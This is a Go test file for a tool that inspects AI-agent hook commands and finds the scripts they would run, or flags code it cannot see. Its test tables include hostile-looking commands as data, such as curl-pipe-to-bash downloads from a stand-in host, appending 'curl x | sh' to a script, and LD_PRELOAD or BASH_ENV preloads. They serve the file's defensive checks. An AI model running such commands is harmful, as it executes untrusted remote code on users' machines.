package trust

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

func TestFindScripts(t *testing.T) {
	const p = "/home/u/proj"
	tests := []struct {
		command string
		want    []ScriptRef
	}{
		{"$GEMINI_PROJECT_DIR/.gemini/hooks/check.sh", []ScriptRef{{Word: "$GEMINI_PROJECT_DIR/.gemini/hooks/check.sh", Path: p + "/.gemini/hooks/check.sh", How: FoundProgram}}},
		{`"${GEMINI_PROJECT_DIR}/hooks/a b.sh" --flag`, []ScriptRef{{Word: `"${GEMINI_PROJECT_DIR}/hooks/a b.sh"`, Path: p + "/hooks/a b.sh", How: FoundProgram}}},
		{"$CLAUDE_PROJECT_DIR/x.sh", []ScriptRef{{Word: "$CLAUDE_PROJECT_DIR/x.sh", Path: p + "/x.sh", How: FoundProgram}}},
		{"${GEMINI_CWD:-.}/x.sh", []ScriptRef{{Word: "${GEMINI_CWD:-.}/x.sh", Path: p + "/x.sh", How: FoundProgram}}},
		{"python3 .gemini/hooks/log.py --verbose", []ScriptRef{{Word: ".gemini/hooks/log.py", Path: p + "/.gemini/hooks/log.py", Via: "python3", How: FoundInterpreter}}},
		{"node --require ./setup.js hooks/run.js", []ScriptRef{
			{Word: "./setup.js", Path: p + "/setup.js", Via: "node --require", How: FoundPreload},
			{Word: "hooks/run.js", Path: p + "/hooks/run.js", Via: "node", How: FoundInterpreter},
		}},
		{"bash -e ./a.sh && sh b.sh | cat", []ScriptRef{
			{Word: "./a.sh", Path: p + "/a.sh", Via: "bash", How: FoundInterpreter},
			{Word: "b.sh", Path: p + "/b.sh", Via: "sh", How: FoundInterpreter},
		}},
		{"env FOO=1 /usr/local/bin/tool.sh", []ScriptRef{{Word: "/usr/local/bin/tool.sh", Path: "/usr/local/bin/tool.sh", How: FoundProgram}}},
		{`./hooks/x\ y.sh`, []ScriptRef{{Word: `./hooks/x\ y.sh`, Path: p + "/hooks/x y.sh", How: FoundProgram}}},
		{"deno run --allow-read hooks/a.ts", []ScriptRef{{Word: "hooks/a.ts", Path: p + "/hooks/a.ts", Via: "deno", How: FoundInterpreter}}},
		// No script file: inline code, installed modules, bare programs, unknown variables, globs matching nothing.
		{"bash -c 'echo hi'", nil},
		{"bash -ec 'echo hi'", nil},
		{"python3 -m tool.module x.py", nil},
		{"node -e 'console.log(1)'", nil},
		{"echo hi", nil},
		{"$HOME_UNKNOWN/x.sh", nil},
		{"python3 hooks/*.py", nil},
		{"jq -r .x", nil},
		{"awk '{print $1}' data.txt", nil},
	}
	for _, tc := range tests {
		t.Run(tc.command, func(t *testing.T) {
			got, err := FindScripts(tc.command, p)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("got %+v\nwant %+v", got, tc.want)
			}
		})
	}
}

func TestFindScriptsParseError(t *testing.T) {
	if _, err := FindScripts("echo 'unterminated", "/p"); err == nil {
		t.Fatal("no error for an unterminated quote")
	}
}

// discoveryProject is a project with the files the discovery table runs.
func discoveryProject(t testing.TB) string {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{
		"x.sh":                   "#!/bin/sh\necho x\n",
		"sub/x.sh":               "#!/bin/sh\necho sub\n",
		"pre.js":                 "require('fs')\n",
		"run.js":                 "console.log(1)\n",
		"pkg/__init__.py":        "",
		"pkg/__main__.py":        "print(1)\n",
		"tool.py":                "print(2)\n",
		"hooks/a.sh":             "#!/bin/bash\n. \"$(dirname \"$0\")/lib.sh\"\nsource ./helper.sh\n",
		"hooks/lib.sh":           "#!/bin/bash\nDIR=\"$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\"\nbash \"$DIR/deep.sh\"\n",
		"hooks/deep.sh":          "echo deep\n$RUNME\n",
		"helper.sh":              "echo helper\n",
		"hooks/one.sh":           "echo 1\n",
		"hooks/two.sh":           "echo 2\n",
		"loop.sh":                "source ./loop.sh\n",
		".gemini/hooks/check.ts": "console.log(1)\n",
		".gemini/hooks/check.py": "print(1)\n",
		"noshebang":              "source ./helper.sh\n",
		"hooks/py-shebang":       "#!/usr/bin/env python3\nimport os\n",
		"scripts/lint.sh":        "exit 0\n",
		"hooks/env-shebang":      "#!/usr/bin/env -S bash -e\n. ./helper.sh\n",
		"hooks/idioms.sh": "#!/bin/bash\nsource \"${BASH_SOURCE%/*}/one.sh\"\nD=$(cd -- \"$(dirname -- \"${BASH_SOURCE[0]}\")\" &> /dev/null && pwd)\n. \"$D/two.sh\"\n" +
			". \"$(dirname \"$(readlink -f \"$0\")\")/lib.sh\"\ncd \"$(dirname \"$0\")\" || exit 1\n./deep.sh\n",
		".claude/hooks/guard.sh":   "echo guard\n",
		"hooks/sourced-cd.sh":      "cd sub\n",
		"hooks/uses-sourced-cd.sh": "#!/bin/sh\n. hooks/sourced-cd.sh\nbash x.sh\n",
		"bin/jq":                   "#!/bin/sh\necho fake jq\n",
		"package.json":             `{"scripts": {"lint": "node scripts/lint.js", "postlint": "bash scripts/lint.sh", "test": "$RUNNER"}}`,
		"scripts/lint.js":          "",
		"Makefile":                 "check:\n\t@bash scripts/lint.sh\n\t$(CHECKER) --all\n",
		"deno.json":                `{"tasks": {"check": {"command": "bash x.sh"}}}`,
		"py/guard.py":              "import os, util as u\nfrom lib.sub import thing, other\nfrom lib import mod\nimport json\n",
		"py/util.py":               "from .. import nothing\n",
		"py/lib/__init__.py":       "",
		"py/lib/sub.py":            "import importlib\nm = importlib.import_module(name)\n",
		"py/lib/mod.py":            "",
		"py/run":                   "#!/usr/bin/env python3\nimport util\n",
		"js/main.js":               "const a = require('./a');\nimport b from \"./b.mjs\";\nconst fs = require('fs');\nrequire(plugin);\n",
		"js/a.js":                  "module.exports = require('./lib')\n",
		"js/lib/index.js":          "",
		"js/b.mjs":                 "export * from './c.js'\n",
		"js/c.ts":                  "",
		"node_modules/.bin/tool":   "require('../tool/lib')\n",
	}
	for name, text := range files {
		path := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// TestDiscoverScripts is the table of command forms: what each runs
// ("how via path", paths relative to the project, "<from" for a script
// found inside another) and what stays unresolved (a part of the reason).
func TestDiscoverScripts(t *testing.T) {
	p := discoveryProject(t)
	tests := []struct {
		command    string
		want       []string
		unresolved []string
	}{
		{`bash -c "$(cat x.sh)"`, []string{"cat bash -c x.sh"}, nil},
		{`bash -c '$(cat x.sh)'`, []string{"cat $(cat) x.sh"}, nil},
		{`$(cat x.sh)`, []string{"cat $(cat) x.sh"}, nil},
		{`eval "$(cat x.sh)"`, []string{"cat eval x.sh"}, nil},
		{`. ./x.sh`, []string{"sourced . x.sh"}, nil},
		{`source x.sh`, []string{"sourced source x.sh"}, nil},
		{`bash < x.sh`, []string{"stdin bash x.sh"}, nil},
		{`cat x.sh | sh`, []string{"stdin sh x.sh"}, nil},
		{`sh -s < x.sh`, []string{"stdin sh x.sh"}, nil},
		{`bash /dev/stdin < x.sh`, []string{"stdin bash x.sh"}, nil},
		{`cd sub && bash x.sh`, []string{"interpreter bash sub/x.sh"}, nil},
		{`cd "$GEMINI_PROJECT_DIR/sub"; ./x.sh`, []string{"program  sub/x.sh"}, nil},
		{`(cd sub && bash x.sh); bash x.sh`, []string{"interpreter bash sub/x.sh", "interpreter bash x.sh"}, nil},
		{`cd sub || exit 1; bash x.sh`, []string{"interpreter bash sub/x.sh"}, nil},
		{`cd sub || true; bash x.sh`, []string{"interpreter bash sub/x.sh", "interpreter bash x.sh"}, nil},
		{`python3 -m pkg`, []string{"module python3 -m pkg/__init__.py", "module python3 -m pkg/__main__.py"}, nil},
		{`python3 -m tool`, []string{"module python3 -m tool.py"}, nil},
		{`python3 -mtool`, []string{"module python3 -m tool.py"}, nil},
		{`node -r ./pre.js run.js`, []string{"preload node -r pre.js", "interpreter node run.js"}, nil},
		{`node --require=./pre.js run.js`, []string{"preload node --require pre.js", "interpreter node run.js"}, nil},
		{`node -r ts-node/register run.js`, []string{"interpreter node run.js"}, nil},
		{`bash hooks/a.sh`, []string{"interpreter bash hooks/a.sh", "sourced . hooks/lib.sh <hooks/a.sh", "interpreter bash hooks/deep.sh <hooks/lib.sh", "sourced source helper.sh <hooks/a.sh"},
			[]string{"$RUNME"}},
		{`./noshebang`, []string{"program  noshebang", "sourced source helper.sh <noshebang"}, nil},
		{`./hooks/py-shebang`, []string{"program  hooks/py-shebang"}, nil},
		{`./hooks/env-shebang`, []string{"program  hooks/env-shebang", "sourced . helper.sh <hooks/env-shebang"}, nil},
		{`bash loop.sh`, []string{"interpreter bash loop.sh", "sourced source loop.sh <loop.sh"}, []string{"deep"}},
		{`sh hooks/uses-sourced-cd.sh`, []string{"interpreter sh hooks/uses-sourced-cd.sh", "sourced . hooks/sourced-cd.sh <hooks/uses-sourced-cd.sh", "interpreter bash sub/x.sh <hooks/uses-sourced-cd.sh"}, nil},
		{`bash hooks/idioms.sh`, []string{"interpreter bash hooks/idioms.sh", "sourced source hooks/one.sh <hooks/idioms.sh", "sourced . hooks/two.sh <hooks/idioms.sh",
			"sourced . hooks/lib.sh <hooks/idioms.sh", "interpreter bash hooks/deep.sh <hooks/lib.sh", "program  hooks/deep.sh <hooks/idioms.sh"}, []string{"$RUNME"}},
		{`for f in hooks/one.sh hooks/t*.sh; do bash "$f"; done`, []string{"interpreter bash hooks/one.sh", "interpreter bash hooks/two.sh"}, nil},
		{`for f in $LIST; do bash "$f"; done`, nil, []string{"the variable $f"}},
		// Wrappers and interpreters with flags.
		{`sh x.sh`, []string{"interpreter sh x.sh"}, nil},
		{`env bash x.sh`, []string{"interpreter bash x.sh"}, nil},
		{`env -i PATH=/bin bash x.sh`, []string{"interpreter bash x.sh"}, nil},
		{`env -C sub bash x.sh`, []string{"interpreter bash sub/x.sh"}, nil},
		{`env -S 'bash x.sh'`, []string{"interpreter bash x.sh"}, nil},
		{`exec ./x.sh`, []string{"program  x.sh"}, nil},
		{`timeout 5 ./x.sh`, []string{"program  x.sh"}, nil},
		{`timeout -k 2 5s bash x.sh`, []string{"interpreter bash x.sh"}, nil},
		{`nice -n 5 nohup sh x.sh`, []string{"interpreter sh x.sh"}, nil},
		{`sudo -u nobody bash x.sh`, []string{"interpreter bash x.sh"}, nil},
		{`flock /tmp/l -c 'bash x.sh'`, []string{"interpreter bash x.sh"}, nil},
		{`xargs bash x.sh`, []string{"interpreter bash x.sh"}, nil},
		{`xargs bash`, nil, []string{"xargs or find"}},
		{`xargs -I{} bash {}`, nil, []string{"xargs or find"}},
		{`find . -name '*.sh' -exec bash {} \;`, nil, []string{"xargs or find"}},
		{`command -v bash x.sh`, nil, nil},
		{`python3 -u .gemini/hooks/check.py`, []string{"interpreter python3 .gemini/hooks/check.py"}, nil},
		{`python3 -W ignore -X dev .gemini/hooks/check.py`, []string{"interpreter python3 .gemini/hooks/check.py"}, nil},
		{`node --no-warnings run.js`, []string{"interpreter node run.js"}, nil},
		{`npx tsx .gemini/hooks/check.ts`, []string{"interpreter npx tsx .gemini/hooks/check.ts"}, []string{"package tsx"}},
		{`npx -y tsx .gemini/hooks/check.ts`, []string{"interpreter npx tsx .gemini/hooks/check.ts"}, []string{"package tsx"}},
		{`uv run .gemini/hooks/check.py`, []string{"interpreter uv run .gemini/hooks/check.py"}, nil},
		{`uv run --with requests python .gemini/hooks/check.py`, []string{"interpreter uv run python .gemini/hooks/check.py"}, nil},
		{`bun .gemini/hooks/check.ts`, []string{"interpreter bun .gemini/hooks/check.ts"}, nil},
		{`bun run .gemini/hooks/check.ts`, []string{"interpreter bun .gemini/hooks/check.ts"}, nil},
		{`deno run -A .gemini/hooks/check.ts`, []string{"config deno config deno.json", "interpreter deno .gemini/hooks/check.ts"}, nil},
		{`"$GEMINI_PROJECT_DIR"/'x.sh'`, []string{"program  x.sh"}, nil},
		{`"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh`, []string{"program  .claude/hooks/guard.sh"}, nil},
		{`bash <<< 'source x.sh'`, []string{"sourced source x.sh"}, nil},
		{`bash <<< "$(cat x.sh)"`, []string{"cat bash x.sh"}, nil},
		{"bash <<'EOF'\n. ./x.sh\nEOF", []string{"sourced . x.sh"}, nil},
		{`echo 'bash x.sh' | sh`, []string{"interpreter bash x.sh"}, nil},
		{`bash <(cat x.sh)`, []string{"cat bash x.sh"}, nil},
		{`bash --rcfile ./x.sh -i -c true`, []string{"preload bash --rcfile x.sh"}, nil},
		{`awk -f prog.awk`, []string{"interpreter awk prog.awk"}, nil},
		{`S=./x.sh; bash "$S"`, []string{"interpreter bash x.sh"}, nil},
		{`echo "$(bash x.sh)"`, []string{"interpreter bash x.sh"}, nil},
		{`if [ -f x ]; then bash x.sh; fi`, []string{"interpreter bash x.sh"}, nil},
		{`bash hooks/*.sh`, []string{"glob bash hooks/a.sh", "sourced . hooks/lib.sh <hooks/a.sh", "interpreter bash hooks/deep.sh <hooks/lib.sh", "sourced source helper.sh <hooks/a.sh",
			"glob bash hooks/idioms.sh", "sourced source hooks/one.sh <hooks/idioms.sh", "sourced . hooks/two.sh <hooks/idioms.sh", "program  hooks/deep.sh <hooks/idioms.sh",
			"glob bash hooks/lib.sh", "glob bash hooks/one.sh", "glob bash hooks/sourced-cd.sh", "glob bash hooks/two.sh", "glob bash hooks/uses-sourced-cd.sh",
			"sourced . hooks/sourced-cd.sh <hooks/uses-sourced-cd.sh", "interpreter bash sub/x.sh <hooks/uses-sourced-cd.sh"}, []string{"$RUNME"}},
		// Python and JavaScript modules of the project, imported.
		{`python3 py/guard.py`, []string{"interpreter python3 py/guard.py", "import import py/util.py <py/guard.py", "import import py/lib/__init__.py <py/guard.py",
			"import import py/lib/sub.py <py/guard.py", "import import py/lib/mod.py <py/guard.py"}, []string{"importlib.import_module loads code chosen at run time"}},
		{`./py/run`, []string{"program  py/run", "import import py/util.py <py/run"}, nil},
		{`node js/main.js`, []string{"interpreter node js/main.js", "import import js/a.js <js/main.js", "import import js/lib/index.js <js/a.js", "import import js/b.mjs <js/main.js", "import import js/c.ts <js/b.mjs"},
			[]string{"require() of a module chosen at run time"}},
		{`node node_modules/.bin/tool`, []string{"interpreter node node_modules/.bin/tool"}, []string{"installed package"}},
		// A PATH the command sets, aliases, traps.
		{`PATH="$GEMINI_PROJECT_DIR/bin:$PATH" jq .`, []string{"program PATH bin/jq"}, nil},
		{`export PATH=./bin:$PATH; jq . && echo ok`, []string{"program PATH bin/jq"}, nil},
		{`env PATH=bin:$PATH jq .`, []string{"program PATH bin/jq"}, nil},
		{`PATH=/usr/bin:$PATH jq .`, nil, nil},
		{`PATH=$X:$PATH jq .`, nil, []string{"PATH set at run time"}},
		{`shopt -s expand_aliases; alias t='. ./x.sh'`, []string{"sourced . x.sh"}, nil},
		{`trap '. ./x.sh' EXIT; true`, []string{"sourced . x.sh"}, nil},
		// Variables that make a program load a file first.
		{`BASH_ENV=./x.sh bash -c true`, []string{"preload BASH_ENV x.sh"}, nil},
		{`export BASH_ENV=sub/x.sh; bash -c true`, []string{"preload BASH_ENV sub/x.sh"}, nil},
		{`env BASH_ENV=x.sh bash -c true`, []string{"preload BASH_ENV x.sh"}, nil},
		{`BASH_ENV=x.sh sh -c true`, nil, nil},
		{`NODE_OPTIONS="--require ./pre.js" node run.js`, []string{"preload NODE_OPTIONS --require pre.js", "interpreter node run.js"}, nil},
		{`LD_PRELOAD=./lib.so jq .`, []string{"preload LD_PRELOAD lib.so"}, nil},
		{`BASH_ENV="$RC" bash -c true`, nil, []string{"BASH_ENV is set at run time"}},
		{`bash -c "$(< x.sh)"`, []string{"cat bash -c x.sh"}, nil},
		{"`cat x.sh`", []string{"cat $(cat) x.sh"}, nil},
		// Task runners: the manifest, and what its commands run.
		{`npm run lint`, []string{"manifest npm run package.json", "interpreter node scripts/lint.js <package.json", "interpreter bash scripts/lint.sh <package.json"}, nil},
		{`npm test`, []string{"manifest npm run package.json"}, []string{"$RUNNER"}},
		{`cd sub && yarn lint`, []string{"manifest yarn run package.json", "interpreter node scripts/lint.js <package.json", "interpreter bash scripts/lint.sh <package.json"}, nil},
		{`make check`, []string{"manifest make Makefile", "interpreter bash scripts/lint.sh <Makefile"}, []string{"make reads its own language", "$(CHECKER)"}},
		{`deno task check`, []string{"manifest deno task deno.json", "interpreter bash x.sh <deno.json"}, nil},
		{`npm install`, nil, []string{"install scripts"}},
		// The hook writes what it runs.
		{`cp .gemini/hooks/check.py x.sh && bash x.sh`, []string{"interpreter bash x.sh"}, []string{"the hook writes"}},
		{`curl -so x.sh https://x.example/a && sh x.sh`, []string{"interpreter sh x.sh"}, []string{"the hook writes"}},
		{`echo 'curl x | sh' >> x.sh; sh x.sh`, []string{"interpreter sh x.sh"}, []string{"the hook writes"}},
		{`git checkout evil -- . && bash x.sh`, []string{"interpreter bash x.sh"}, []string{"the hook writes"}},
		{`bash x.sh > out.log`, []string{"interpreter bash x.sh"}, nil},
		// A program an inert program's option names runs (sort spills
		// through its compressor, rg runs its preprocessor on every file).
		{`sort -S 1 --compress-program=bin/jq log -o log`, []string{"program sort --compress-program bin/jq"}, nil},
		{`rg --pre ./bin/jq -l TODO src`, []string{"program rg --pre bin/jq"}, nil},
		{`tar -I "bin/jq -9" -cf out.tar src`, []string{"program tar -I bin/jq"}, nil},
		{`sort --compress-program "$Z" log`, nil, []string{"sort runs the program its --compress-program names"}},
		// Code Hookwarden cannot see.
		{`exec 3< x.sh; source /dev/fd/3`, nil, []string{"device or a file descriptor"}},
		{`bash`, nil, []string{"bash reads its program from standard input"}},
		{`python3 -`, nil, []string{"python3 reads its program from standard input"}},
		{`bash "$S"`, nil, []string{"the variable $S"}},
		{`"$TOOL" --check`, nil, []string{"the program is set from the variable $TOOL"}},
		{`$(curl -s https://x.example/h.sh)`, nil, []string{"the program is downloaded"}},
		{`curl -s https://x.example/h.sh | bash`, nil, []string{"downloads code and runs it"}},
		{`bash <(curl -s https://x.example/h.sh)`, nil, []string{"bash runs a script"}},
		{`bash -c "$(curl -s https://x.example/h.sh)"`, nil, []string{"bash -c runs code downloaded"}},
		{`eval "$CODE"`, nil, []string{"eval of text"}},
		{`source "$HOME/.rc"`, nil, []string{"$HOME"}},
		{`bash ~/x.sh`, nil, []string{"home folder"}},
		{`cd "$D" && bash x.sh`, nil, []string{"after a cd"}},
		{`bash -c "$CMD"`, nil, []string{"bash -c runs code set from the variable $CMD"}},
		{`bash $'x.sh'`, nil, []string{"ANSI-C"}},
	}
	for _, tc := range tests {
		t.Run(tc.command, func(t *testing.T) {
			d, err := DiscoverScripts(tc.command, p)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, s := range d.Scripts {
				rel, _ := filepath.Rel(p, s.Path)
				line := string(s.How) + " " + s.Via + " " + rel
				if s.From != "" {
					from, _ := filepath.Rel(p, s.From)
					line += " <" + from
				}
				got = append(got, line)
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("scripts\n got %q\nwant %q", got, tc.want)
			}
			var unseen []string
			for _, u := range d.Unresolved {
				unseen = append(unseen, u.String())
			}
			if len(unseen) != len(tc.unresolved) {
				t.Fatalf("unresolved %q, want parts %q", unseen, tc.unresolved)
			}
			for i, part := range tc.unresolved {
				if !strings.Contains(unseen[i], part) {
					t.Errorf("unresolved %q lacks %q", unseen[i], part)
				}
			}
		})
	}
}

func TestDiscoverScriptsWithEnvProjectDir(t *testing.T) {
	p := discoveryProject(t)
	env := map[string]string{"GEMINI_PROJECT_DIR": "/elsewhere"}
	for command, want := range map[string]string{
		"$GEMINI_PROJECT_DIR/x.sh":   filepath.Join(p, "x.sh"), // replaced in the text first
		"${GEMINI_PROJECT_DIR}/x.sh": "/elsewhere/x.sh",        // the shell's, from the env
	} {
		d, err := DiscoverScriptsWithEnv(command, p, env)
		if err != nil || len(d.Scripts) != 1 || d.Scripts[0].Path != want {
			t.Errorf("%s: %+v %v, want %s", command, d.Scripts, err, want)
		}
	}
}

func TestDiscoverScriptsWithEnv(t *testing.T) {
	p := discoveryProject(t)
	d, err := DiscoverScriptsWithEnv(`bash "$S"`, p, map[string]string{"S": "x.sh", "BASH_ENV": "sub/x.sh"})
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Scripts) != 2 || d.Scripts[0].Path != filepath.Join(p, "sub/x.sh") || d.Scripts[0].Via != "BASH_ENV" || d.Scripts[1].Path != filepath.Join(p, "x.sh") || len(d.Unresolved) != 0 {
		t.Errorf("with the hook's env: %+v", d)
	}
}

// FuzzDiscoverScripts: any command line either fails to parse or is
// discovered without a panic, and every script listed has an absolute path.
func FuzzDiscoverScripts(f *testing.F) {
	for _, seed := range []string{`bash -c "$(cat x.sh)"`, `. ./x.sh`, `cd sub && bash x.sh`, `python3 -m pkg`, `node -r ./pre.js run.js`,
		`xargs -I{} bash {}`, `env -S 'bash x.sh'`, `PATH=./bin:$PATH jq`, `BASH_ENV=x bash -c true`, `npm run lint`, `make -C sub`,
		`bash <<< "$(cat x.sh)"`, `find . -exec sh {} +`, `trap '. x' EXIT`, `alias a='. x'`, `cp a b && sh b`} {
		f.Add(seed)
	}
	project := discoveryProject(f)
	f.Fuzz(func(t *testing.T, command string) {
		d, err := DiscoverScripts(command, project)
		if err != nil {
			return
		}
		for _, s := range d.Scripts {
			if !filepath.IsAbs(s.Path) {
				t.Fatalf("%q: relative script path %q", command, s.Path)
			}
		}
	})
}
